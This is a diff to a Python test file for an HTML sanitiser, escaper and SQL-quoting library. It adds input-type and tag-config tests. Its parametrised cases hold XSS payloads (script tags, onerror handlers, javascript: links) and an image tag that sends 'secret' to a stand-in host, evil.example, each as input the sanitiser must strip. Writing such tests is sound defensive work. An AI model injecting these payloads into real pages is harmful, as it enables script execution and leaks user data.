@@ -2,12 +2,13 @@ from __future__ import annotations
 
 import html
 import sqlite3
+from typing import Any
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from llmspell.errors import ConfigError, TextRefused
+from llmspell.errors import ConfigError, InputError, TextRefused
 from llmspell.security import (
     escape_html,
     latin_skeleton,
@@ -90,7 +91,11 @@ def test_escaped_text_is_that_text_to_a_parser(text: str) -> None:
     "markup, clean",
     [
         ("<b>bold</b> <script>alert(1)</script>", "<b>bold</b> "),
-        ("<img src=x onerror=alert(1)>", '<img src="x">'),
+        ("<img src=x onerror=alert(1)>", ""),
+        (
+            "<a>x<img src='https://evil.example/?q=secret'></a><bdo dir=rtl>cba</bdo>",
+            '<a rel="noopener noreferrer nofollow">x</a>cba',
+        ),
         ("<svg><script>1</script></svg>", ""),
         ("<a href='javascript:alert(1)'>x</a>", '<a rel="noopener noreferrer nofollow">x</a>'),
         ("<a href='data:text/html,x'>x</a>", '<a rel="noopener noreferrer nofollow">x</a>'),
@@ -122,3 +127,25 @@ def test_a_skeleton_is_as_long_as_its_text() -> None:
     text = "раурal ① ﬀ 日本 😀 pаss"
     assert len(latin_skeleton(text)) == len(text)
     assert latin_skeleton("раураl") == "paypal"
+
+
+def test_images_stay_where_they_are_asked_for() -> None:
+    assert sanitize_html("<img src=x onerror=alert(1)>", tags={"img"}) == '<img src="x">'
+
+
+@pytest.mark.parametrize("wrong", [None, 5, b"x"])
+def test_what_is_no_text_is_named(wrong: Any) -> None:
+    for use in (
+        escape_html,
+        sanitize_html,
+        lambda text: quote_identifier(text, dialect="sqlite"),
+        lambda text: quote_literal(text, dialect="sqlite"),
+    ):
+        with pytest.raises(InputError, match="is a str, not"):
+            use(wrong)
+
+
+@pytest.mark.parametrize("tags", ["b", [1]])
+def test_tags_are_names(tags: Any) -> None:
+    with pytest.raises(ConfigError, match="tags must be a list of str"):
+        sanitize_html("", tags=tags)
